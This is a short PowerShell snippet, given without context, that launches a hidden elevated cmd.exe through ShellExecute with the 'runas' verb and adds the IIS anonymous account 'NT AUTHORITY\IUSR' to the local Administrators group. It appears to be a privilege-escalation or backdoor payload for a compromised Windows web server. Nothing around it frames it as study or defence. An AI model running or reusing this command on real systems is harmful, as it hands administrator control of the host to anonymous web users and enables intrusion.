$application = New-Object -ComObject Shell.Application
$application.ShellExecute('cmd.exe', '/c net localgroup Administrators "NT AUTHORITY\IUSR" /add', '', 'runas', 0)
